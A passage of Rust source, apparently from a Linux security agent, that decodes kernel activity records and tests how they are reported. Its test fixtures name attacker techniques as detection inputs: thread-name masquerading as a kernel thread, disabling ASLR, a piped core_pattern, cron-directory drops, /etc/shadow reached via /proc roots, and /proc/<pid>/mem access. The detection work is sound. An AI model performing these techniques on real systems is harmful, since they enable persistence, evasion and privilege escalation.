            info.name = Some(name(a[4], a[5]));
            info.target_pid = Some(a[1] as u32);
            info.request = Some(rename_call(a[0]));
            "rename"
        }
        // The pipeline turns these into file events (`sysctl_info`); named here for the record.
        SYSCTL_WRITE => {
            info.name = Some(s1());
            "sysctlWrite"
        }
        _ => "unknown",
    };
    info
}

/// A cgroup made (`activity::CGROUP_MKDIR`): its id and its path as the kernel sent it (in two
/// parts where it is long).
pub fn cgroup_made(ev: &node_agent_common::ActivityEvent) -> (u64, String) {
    let mut path = lossy(&ev.str1[..(ev.str1_len as usize).min(ev.str1.len())]);
    path.push_str(&lossy(
        &ev.str2[..(ev.str2_len as usize).min(ev.str2.len())],
    ));
    (ev.args[0], path)
}

/// How a thread's name was changed, from the syscall the caller was in (x86-64 numbers: the
/// kernel sends them only there): prctl, or a write to a procfs `comm` file.
fn rename_call(nr: u64) -> String {
    match nr as i64 {
        libc::SYS_prctl => "prctl(PR_SET_NAME)".into(),
        libc::SYS_write
        | libc::SYS_pwrite64
        | libc::SYS_writev
        | libc::SYS_pwritev
        | libc::SYS_pwritev2 => "write to a procfs comm file".into(),
        other => format!("syscall {other}"),
    }
}

/// A `struct file_handle` as the caller passed it: its type, its length and up to its first
/// eight bytes in hex (little-endian, as in memory).
pub fn file_handle(handle_type: u32, head: u64, bytes: u32) -> String {
    let shown = (bytes as usize).min(8);
    let hex: String = head.to_le_bytes()[..shown]
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    format!("type {}, {bytes} bytes: {hex}", handle_type as i32)
}

/// A device number as mknod(2) takes it (glibc's encoding), as `major:minor`.
pub fn device_number(dev: u64) -> String {
    let major = ((dev >> 8) & 0xfff) | ((dev >> 32) & !0xfff);
    let minor = (dev & 0xff) | ((dev >> 12) & !0xff);
    format!("{major}:{minor}")
}

/// Removes `.` and resolves `..` lexically (symlinks are not followed: the path names what the
/// process asked for).
pub fn normalize(path: &Path) -> PathBuf {
    // Most paths are normal already (absolute, no `.`, `..` or empty components): copied.
    let bytes = path.as_os_str().as_encoded_bytes();
    if let Some(rest) = bytes.strip_prefix(b"/")
        && !rest.is_empty()
        && rest
            .split(|&b| b == b'/')
            .all(|part| !matches!(part, b"" | b"." | b".."))
    {
        return path.to_path_buf();
    }
    let mut out = PathBuf::from("/");
    for part in path.components() {
        match part {
            std::path::Component::ParentDir => {
                out.pop();
            }
            std::path::Component::Normal(p) => out.push(p),
            _ => {}
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A `sysctl` hook record as the kernel fills it: the name, the bytes written (a shell's
    /// `echo` ends them with a newline), the position.
    fn sysctl_record(
        name: &str,
        written: &[u8],
        position: u64,
    ) -> node_agent_common::ActivityEvent {
        // SAFETY: ActivityEvent is plain integers and arrays; all-zero is a valid value.
        let mut ev: node_agent_common::ActivityEvent = unsafe { std::mem::zeroed() };
        ev.op = node_agent_common::activity::SYSCTL_WRITE;
        ev.str1[..name.len()].copy_from_slice(name.as_bytes());
        ev.str1_len = name.len() as u32;
        ev.str2[..written.len()].copy_from_slice(written);
        ev.str2_len = written.len() as u32;
        ev.args[0] = position;
        ev
    }

    #[test]
    fn a_rename_record_names_the_thread_its_names_and_the_call() {
        let half = |b: &[u8; 16], i: usize| {
            u64::from_le_bytes(b[i * 8..i * 8 + 8].try_into().expect("8 bytes"))
        };
        let mut old = [0u8; 16];
        old[..7].copy_from_slice(b"python3");
        let new = *b"[ksoftirqd/1]\0\0\0";
        // SAFETY: ActivityEvent is plain integers and arrays; all-zero is a valid value.
        let mut ev: node_agent_common::ActivityEvent = unsafe { std::mem::zeroed() };
        ev.op = node_agent_common::activity::TASK_RENAME;
        ev.task.tgid = 40;
        ev.task.pid = 40;
        ev.args = [
            libc::SYS_write as u64,
            41,
            half(&old, 0),
            half(&old, 1),
            half(&new, 0),
            half(&new, 1),
        ];
        let a = activity_info(&ev, &Clock::with_offset(0));
        assert_eq!(a.operation, "rename");
        assert_eq!(a.source.as_deref(), Some("python3"));
        assert_eq!(a.name.as_deref(), Some("[ksoftirqd/1]"));
        assert_eq!(a.target_pid, Some(41), "another thread of the process");
        assert_eq!(a.request.as_deref(), Some("write to a procfs comm file"));
        ev.args[0] = libc::SYS_prctl as u64;
        assert_eq!(
            activity_info(&ev, &Clock::with_offset(0))
                .request
                .as_deref(),
            Some("prctl(PR_SET_NAME)")
        );
        ev.args[0] = libc::SYS_io_uring_enter as u64;
        assert_eq!(
            activity_info(&ev, &Clock::with_offset(0)).request,
            Some(format!("syscall {}", libc::SYS_io_uring_enter))
        );
    }

    #[test]
    fn a_kernel_setting_written_is_a_file_event_with_the_value_as_written() {
        let clock = Clock::with_offset(0);
        let (f, w) = sysctl_info(
            &sysctl_record("kernel/randomize_va_space", b"0\n", 0),
            &clock,
        );
        assert_eq!(f.operation, "sysctlWrite");
        assert_eq!(
            f.resolved_path.as_deref(),
            Some(Path::new("/proc/sys/kernel/randomize_va_space"))
        );
        assert_eq!(f.path, "/proc/sys/kernel/randomize_va_space");
        assert_eq!(f.sysctl_value.as_deref(), Some("0"));
        assert!(!f.truncated);
        assert_eq!(w.name, "kernel/randomize_va_space");
        assert_eq!(w.position, 0);
        // A string setting keeps its spaces inside; the kernel stops at the first newline.
        let (f, _) = sysctl_info(
            &sysctl_record("kernel/core_pattern", b"|/tmp/x %p %s\nsecond line", 0),
            &clock,
        );
        assert_eq!(f.sysctl_value.as_deref(), Some("|/tmp/x %p %s"));
        // A piece written past the start has no value of its own.
        let (f, w) = sysctl_info(&sysctl_record("kernel/core_pattern", b"x", 9), &clock);
        assert_eq!(f.sysctl_value, None);
        assert_eq!(w.position, 9);
        // Cut by the kernel: flagged.
        let mut cut = sysctl_record("kernel/core_pattern", b"|/tmp/", 0);
        cut.flags = 2;
        assert!(sysctl_info(&cut, &clock).0.truncated);
        // Lengths past the buffers and bytes that are not UTF-8 do not panic.
        let mut bad = sysctl_record("kernel/x", &[0xff, 0xfe, b'1'], 0);
        bad.str1_len = u32::MAX;
        bad.str2_len = u32::MAX;
        let (f, w) = sysctl_info(&bad, &clock);
        assert_eq!(w.name, "kernel/x");
        assert!(f.sysctl_value.is_some_and(|v| v.ends_with('1')));
    }

    #[test]
    fn a_script_whose_interpreter_is_its_callers_own_executable_is_told_apart() {
        use ProgramContent as C;
        for (head, want) in [
            (&b"#!/proc/self/exe\n"[..], C::SelfExeScript),
            (b"#! /proc/self/exe", C::SelfExeScript),
            (b"#!\t/proc/thread-self/exe -x\n", C::SelfExeScript),
            (b"#!/proc/4242/exe\n", C::SelfExeScript),
            (b"#!/proc/self/exe2\n", C::Script),
            (b"#!/proc//exe\n", C::Script),
            (b"#!/proc/self/cwd/exe\n", C::Script),
            (b"#!/bin/sh\n", C::Script),
            (b"#!", C::Script),
            (b"\x7fELF\x02", C::Elf),
            (b"", C::Other),
            (b"/proc/self/exe", C::Other),
        ] {
            assert_eq!(C::of(head), want, "{:?}", String::from_utf8_lossy(head));
        }
    }

    #[test]
    fn argv_splits_on_nul_and_keeps_empty_arguments() {
        assert_eq!(
            split_argv(b"sh\0-c\0echo hi\0"),
            vec!["sh", "-c", "echo hi"]
        );
        assert_eq!(split_argv(b"a\0\0b\0"), vec!["a", "", "b"]);
        assert_eq!(
            split_argv(b"trunc\0ated-no-nul"),
            vec!["trunc", "ated-no-nul"]
        );
        assert!(split_argv(b"").is_empty());
    }

    #[test]
    fn cwd_is_rebuilt_root_first() {
        assert_eq!(cwd_from_components(b"b\0a\0"), PathBuf::from("/a/b"));
        assert_eq!(cwd_from_components(b""), PathBuf::from("/"));
        assert_eq!(cwd_from_components(b"/\0"), PathBuf::from("/"));
        assert_eq!(cwd_from_components(b"tmp\0"), PathBuf::from("/tmp"));
    }

    #[test]
    fn timestamps_are_written_as_humantime_writes_them() {
        let second = 1_000_000_000u64;
        let day = 86_400 * second;
        let cases = [
            0,
            1,
            999_999_999,
            59 * second + 123,
            // 2000-02-29 (a leap day of a century leap year), and the day after.
            11_016 * day + 3_723 * second + 45,
            11_017 * day,
            // 2024-12-31T23:59:59.999999999, then the new year.
            20_089 * day - 1,
            20_089 * day,
            // 2100-02-28 and 2100-03-01 (2100 is not a leap year).
            47_540 * day,
            47_541 * day + 86_399 * second,
            1_764_945_482 * second + 123_456_789,
            u64::MAX,
        ];
        for ns in cases {
            let expected =
                humantime::format_rfc3339_nanos(UNIX_EPOCH + Duration::from_nanos(ns)).to_string();
            assert_eq!(rfc3339_nanos(ns), expected, "{ns} ns");
        }
        let clock = Clock::with_offset(-5);
        assert_eq!(clock.rfc3339(3), "1970-01-01T00:00:00.000000000Z");
        assert_eq!(clock.rfc3339(7), "1970-01-01T00:00:00.000000002Z");
    }

    #[test]
    fn normal_paths_are_copied_and_the_rest_resolved() {
        for (path, normal) in [
            ("/usr/bin/true", "/usr/bin/true"),
            ("/", "/"),
            ("/usr//bin", "/usr/bin"),
            ("/usr/bin/", "/usr/bin"),
            ("/tmp/./x", "/tmp/x"),
            ("/tmp/a/../x", "/tmp/x"),
            ("/..", "/"),
            ("/tmp/.x/..y", "/tmp/.x/..y"),
            ("relative/x", "/relative/x"),
        ] {
            assert_eq!(normalize(Path::new(path)), PathBuf::from(normal), "{path}");
        }
    }

    #[test]
    fn relative_exe_joins_cwd() {
        assert_eq!(
            resolve_exe("./x", Some(Path::new("/tmp"))),
            PathBuf::from("/tmp/./x")
        );
        assert_eq!(
            resolve_exe("/bin/true", Some(Path::new("/tmp"))),
            PathBuf::from("/bin/true")
        );
        assert_eq!(resolve_exe("x", None), PathBuf::from("x"));
    }

    #[test]
    fn kernel_dev_converts_to_stat_encoding() {
        // 8:1 (sda1) and 259:65536 (a large minor) round-trip through the two encodings.
        assert_eq!(user_dev((8 << 20) | 1), libc::makedev(8, 1));
        assert_eq!(user_dev((259 << 20) | 65536), libc::makedev(259, 65536));
    }

    #[test]
    fn standard_input_kinds_from_file_types() {
        assert_eq!(stream_kind(0), None);
        assert_eq!(stream_kind(0x1), Some("pipe"));
        assert_eq!(stream_kind(0x2), Some("device"));
        assert_eq!(stream_kind(0x8), Some("file"));
        assert_eq!(stream_kind(0xc), Some("socket"));
        assert_eq!(stream_kind(0x4), Some("other"));
    }

    #[test]
    fn errno_names() {
        assert_eq!(errno_name(libc::ECONNREFUSED), "ECONNREFUSED");
        assert_eq!(errno_name(9999), "errno 9999");
    }

    #[test]
    fn any_return_value_names_its_error_without_overflow() {
        // Found by fuzzing (fuzz/fuzz_targets/record_decode.rs): an activity record with
        // `ret = i64::MIN` overflowed negating it; file and connect records had the same code.
        assert_eq!(error_of(0), None);
        assert_eq!(error_of(7), None);
        assert_eq!(error_of(-i64::from(libc::EPERM)).as_deref(), Some("EPERM"));
        assert_eq!(
            error_of(i64::MIN).as_deref(),
            Some("errno 9223372036854775808")
        );
        assert_eq!(
            error_of(i64::from(i32::MIN)).as_deref(),
            Some("errno 2147483648")
        );
        // Not truncated to 32 bits (which read -(2^32 + 1) as EPERM).
        assert_eq!(
            error_of(-(1i64 << 32) - 1).as_deref(),
            Some("errno 4294967297")
        );
        let clock = Clock::with_offset(0);
        // SAFETY: ActivityEvent is plain integers and arrays; all-zero is a valid value.
        let mut activity: node_agent_common::ActivityEvent = unsafe { std::mem::zeroed() };
        activity.ret = i64::MIN;
        assert_eq!(
            activity_info(&activity, &clock).error.as_deref(),
            Some("errno 9223372036854775808")
        );
        // SAFETY: as above.
        let mut file: node_agent_common::FileEvent = unsafe { std::mem::zeroed() };
        file.ret = i64::MIN;
        assert!(file_info(&file, &clock).error.is_some());
        // SAFETY: as above.
        let mut net: node_agent_common::NetEvent = unsafe { std::mem::zeroed() };
        net.ret = i32::MIN;
        assert_eq!(
            net_info(&net, &clock).error.as_deref(),
            Some("errno 2147483648")
        );
    }

    /// A file record as the kernel fills it: `path` and `path2` as passed, `base` raw.
    fn file_record(
        path: &str,
        path2: Option<&str>,
        flags: u32,
        base: &[u8],
    ) -> node_agent_common::FileEvent {
        // SAFETY: FileEvent is plain integers and arrays; all-zero is a valid value.
        let mut ev: node_agent_common::FileEvent = unsafe { std::mem::zeroed() };
        ev.op = node_agent_common::file_op::RENAME;
        ev.task.tgid = 4242;
        ev.task.pid = 4243;
        ev.dirfd = -100;
        ev.dirfd2 = -100;
        ev.path[..path.len()].copy_from_slice(path.as_bytes());
        ev.path_len = path.len() as u32;
        if let Some(p2) = path2 {
            ev.path2[..p2.len()].copy_from_slice(p2.as_bytes());
            ev.path2_len = p2.len() as u32;
        }
        ev.match_flags = flags;
        ev.base[..base.len()].copy_from_slice(base);
        ev.base_len = base.len() as u32;
        ev
    }

    #[test]
    fn whose_memory_a_path_names() {
        for (path, want) in [
            ("/proc/123/mem", Some(123)),
            ("/proc/123/task/456/mem", Some(123)),
            ("/proc/self/mem", Some(7)),
            ("/proc/thread-self/mem", Some(7)),
            ("/proc/self/task/8/mem", Some(7)),
            ("/proc/123/maps", None),
            ("/proc/123/task/x/mem", None),
            ("/proc/abc/mem", None),
            ("/tmp/link/mem", None),
            ("mem", None),
        ] {
            assert_eq!(proc_mem_pid(path, 7), want, "{path}");
        }
    }

    #[test]
    fn a_memory_file_is_whose_the_kernel_found_whatever_the_path() {
        use node_agent_common::file_flags::{HAS_BASE, PROC_MEM};
        let clock = Clock::with_offset(0);
        // The kernel's answer, through a symbolic link the string cannot tell.
        let mut ev = file_record("/tmp/link/mem", None, PROC_MEM, b"");
        ev.op = node_agent_common::file_op::OPEN_READ;
        ev.target_tgid = 555;
        assert_eq!(file_info(&ev, &clock).proc_mem_pid, Some(555));
        // A refused open: the path from the directory the kernel recorded (`cd /proc/99`).
        let mut ev = file_record("mem", None, PROC_MEM | HAS_BASE, b"99\0proc\0");
        ev.op = node_agent_common::file_op::OPEN_READ;
        ev.ret = -13;
        assert_eq!(file_info(&ev, &clock).proc_mem_pid, Some(99));
        // Nothing tells: no process (nothing is raised for it).
        let mut ev = file_record("/tmp/link/mem", None, PROC_MEM, b"");
        ev.op = node_agent_common::file_op::OPEN_READ;
        ev.ret = -13;
        assert_eq!(file_info(&ev, &clock).proc_mem_pid, None);
    }

    #[test]
    fn file_paths_come_from_what_the_kernel_recorded_not_the_string() {
        use node_agent_common::file_flags::{HAS_BASE, OBJECT_PATH, UNRESOLVED};
        let clock = Clock::with_offset(0);
        let resolved = |ev: &node_agent_common::FileEvent| {
            let f = file_info(ev, &clock);
            (f.resolved_path, f.resolved_path2)
        };
        // An open: the path walked from the file, whatever was passed.
        let ev = file_record(
            "././../x/../../crontab",
            None,
            OBJECT_PATH,
            b"/etc/crontab\0",
        );
        assert_eq!(resolved(&ev).0, Some(PathBuf::from("/etc/crontab")));
        // Dot segments, double slashes and the process's own /proc root, normalised.
        for (given, want) in [
            ("/etc//cron.d/./x", "/etc/cron.d/x"),
            ("/etc/cron.d/../cron.d/x", "/etc/cron.d/x"),
            ("/proc/self/root/etc/cron.d/x", "/etc/cron.d/x"),
            ("/proc/4242/root/proc/self/root/etc/shadow", "/etc/shadow"),
            ("/proc/thread-self/root/etc/shadow", "/etc/shadow"),
            // Another process's root is another mount namespace's, possibly: kept.
            ("/proc/1/root/etc/shadow", "/proc/1/root/etc/shadow"),
        ] {
            let ev = file_record("/tmp/a", Some(given), UNRESOLVED, b"");
            assert_eq!(resolved(&ev).1, Some(PathBuf::from(want)), "{given}");
        }
        // `mv /tmp/a job` in /etc/cron.d: the base is the second path's directory.
        let ev = file_record("/tmp/a", Some("./job"), HAS_BASE, b"cron.d\0etc\0");
        assert_eq!(
            resolved(&ev),
            (
                Some(PathBuf::from("/tmp/a")),
                Some(PathBuf::from("/etc/cron.d/job"))
            )
        );
        // `mv a ../job` in /etc/cron.d/sub: both relative to the same directory.
        let ev = file_record("a", Some("../job"), HAS_BASE, b"sub\0cron.d\0etc\0");
        assert_eq!(
            resolved(&ev),
            (
                Some(PathBuf::from("/etc/cron.d/sub/a")),
                Some(PathBuf::from("/etc/cron.d/job"))
            )
        );
    }

    #[test]
    fn clock_formats_rfc3339() {
        let clock = Clock::with_offset(1_700_000_000_000_000_000);
        assert_eq!(clock.rfc3339(5), "2023-11-14T22:13:20.000000005Z");
    }
}
